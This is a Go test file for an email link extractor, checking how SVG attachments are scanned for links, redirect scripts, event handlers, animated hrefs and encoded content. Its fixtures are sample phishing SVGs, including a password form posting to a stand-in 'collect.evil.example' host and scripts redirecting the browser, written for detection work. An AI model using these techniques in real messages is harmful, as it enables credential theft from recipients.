package links

import (
	"encoding/base64"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"
)

// svgMail is a message with a short text part and the SVG document doc
// attached with the given part header.
func svgMail(partHeader, doc string) []byte {
	return []byte("Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nYour document is attached.\r\n" +
		"--b\r\n" + partHeader + "\r\n\r\n" + doc + "\r\n--b--\r\n")
}

func TestSVGAttachment(t *testing.T) {
	const svgType = "Content-Type: image/svg+xml"
	for _, tc := range []struct {
		name, header, doc string
		hosts             []string
		scripted          bool
	}{
		{"a drawn button", svgType, `<svg xmlns="http://www.w3.org/2000/svg"><a href="https://login.evil.example/o365"><rect width="9" height="9"/></a></svg>`,
			[]string{"login.evil.example"}, false},
		{"xlink:href", svgType, `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="https://x.evil.example/"><text>Open</text></a></svg>`,
			[]string{"x.evil.example"}, false},
		{"a script sending the browser away", svgType, `<svg><script><![CDATA[window.location.href="https://redirect.evil.example/p?e="+atob("Ym9i");]]></script></svg>`,
			[]string{"redirect.evil.example"}, true},
		{"a script drawing SVG names its namespace, not a link", svgType, `<svg><script>document.createElementNS("http://www.w3.org/2000/svg","g")</script></svg>`, nil, true},
		{"a script hiding its URL", svgType, `<svg><script type="text/javascript">eval(atob("d2luZG93"))</script></svg>`, nil, true},
		{"an event handler", svgType, `<svg onload="go()"><circle r="4"/></svg>`, nil, true},
		{"a javascript: link", svgType, `<svg><a href="javascript:go()"><text>Open</text></a></svg>`, nil, true},
		{"a login form drawn inside the image", svgType, `<svg><foreignObject width="300" height="200"><form xmlns="http://www.w3.org/1999/xhtml" action="https://collect.evil.example/p" method="post"><input name="pw" type="password"/><button formaction="https://alt.evil.example/p">Sign in</button></form><iframe src="https://frame.evil.example/"></iframe></foreignObject></svg>`,
			[]string{"collect.evil.example", "alt.evil.example", "frame.evil.example"}, false},
		{"a plain logo", svgType, `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><path d="M0 0h9v9z"/><a href="#top"/></svg>`, nil, false},
		{"a .svg file sent as octet-stream", "Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"Invoice.SVG\"",
			`<svg><a href="https://o.evil.example/"><text>Open</text></a></svg>`, []string{"o.evil.example"}, false},
		{"base64", svgType + "\r\nContent-Transfer-Encoding: base64", "PHN2Zz48YSBocmVmPSJodHRwczovL2I2NC5ldmlsLmV4YW1wbGUvIi8+PC9zdmc+",
			[]string{"b64.evil.example"}, false},
		{"a link's href set by animation", svgType, `<svg xmlns="http://www.w3.org/2000/svg"><a><set attributeName="href" to="https://set.evil.example/doc"/><rect width="9" height="9"/></a></svg>`,
			[]string{"set.evil.example"}, false},
		{"hrefs animated through a list", svgType, `<svg><a><animate attributeName="xlink:href" values="https://one.evil.example/; https://two.evil.example/" dur="1s"/><text>Open</text></a></svg>`,
			[]string{"one.evil.example", "two.evil.example"}, false},
		{"an animated javascript: href", svgType, `<svg><a><animate attributeName="href" values="#;javascript:go()"/><text>Open</text></a></svg>`, nil, true},
		{"an animated colour is no link", svgType, `<svg><rect><animate attributeName="fill" values="https://no.example/;red"/></rect></svg>`, nil, false},
		{"UTF-16 with its byte order mark", svgType + "\r\nContent-Transfer-Encoding: base64",
			base64.StdEncoding.EncodeToString(utf16LE(`<svg><script>location.href="https://u16.evil.example/"</script></svg>`)),
			[]string{"u16.evil.example"}, true},
		{"another image type is not read", "Content-Type: image/png", `<svg onload="go()"><a href="https://png.example/"/></svg>`, nil, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			x, err := ExtractAll(svgMail(tc.header, tc.doc), Options{})
			if err != nil {
				t.Fatal(err)
			}
			var hosts []string
			for _, l := range x.Links {
				hosts = append(hosts, l.Host)
				if l.Kind != KindSVG || !l.Clickable || l.Rewritable() || l.Part != "2" || !strings.Contains(l.Context, "attached") {
					t.Errorf("link %s: kind %s clickable %v rewritable %v part %q context %q; want a clickable, not rewritable svg link in part 2 with the lead as context",
						l.Host, l.Kind, l.Clickable, l.Rewritable(), l.Part, l.Context)
				}
			}
			if !slices.Equal(hosts, tc.hosts) || x.Scripted != tc.scripted {
				t.Errorf("hosts %q scripted %v, want %q %v", hosts, x.Scripted, tc.hosts, tc.scripted)
			}
		})
	}
}

func FuzzSVG(f *testing.F) {
	f.Add([]byte(`<svg onload="x"><a xlink:href="https://a.example/"/><script>location="http://b.example/"</script></svg>`))
	f.Add([]byte(`<svg><script><![CDATA[</script>]]></script><a href="//c.example">`))
	f.Add([]byte(`<svg><text>Sign <tspan>in</tspan></text><a href="https://d.example/"><text>here &amp; now</text></a></text></svg>`))
	f.Fuzz(func(t *testing.T, doc []byte) {
		c := &collector{max: 20, hosts: hostCache{}}
		s := svgScanner{c: c, doc: doc}
		s.run()
		if len(c.links) > 20 {
			t.Fatalf("%d links, limit 20", len(c.links))
		}
		for _, l := range c.links {
			if l.Kind != KindSVG || l.Start < 0 || l.End < l.Start || l.End > len(doc) || len(l.Context) > 2*contextRadius {
				t.Fatalf("link %q kind %s at %d:%d in %d bytes", l.Raw, l.Kind, l.Start, l.End, len(doc))
			}
		}
	})
}

// TestSVGFormSubmits: a form drawn in an SVG is marked as where typed
// fields go; its links are not.
func TestSVGFormSubmits(t *testing.T) {
	doc := `<svg><foreignObject><form action="https://collect.evil.example/p"><button formaction="https://alt.evil.example/p">Go</button></form></foreignObject><a href="https://view.evil.example/">Open</a></svg>`
	ls, _ := Extract(svgMail("Content-Type: image/svg+xml", doc), Options{})
	var got []bool
	for _, l := range ls {
		got = append(got, l.Flags.Has(FlagSubmits))
	}
	if want := []bool{true, true, false}; !slices.Equal(got, want) {
		t.Errorf("FlagSubmits on %d links = %v, want %v", len(ls), got, want)
	}
}

// utf16LE is s in UTF-16LE after its byte order mark.
func utf16LE(s string) []byte {
	out := []byte{0xff, 0xfe}
	for _, u := range utf16.Encode([]rune(s)) {
		out = append(out, byte(u), byte(u>>8))
	}
	return out
}
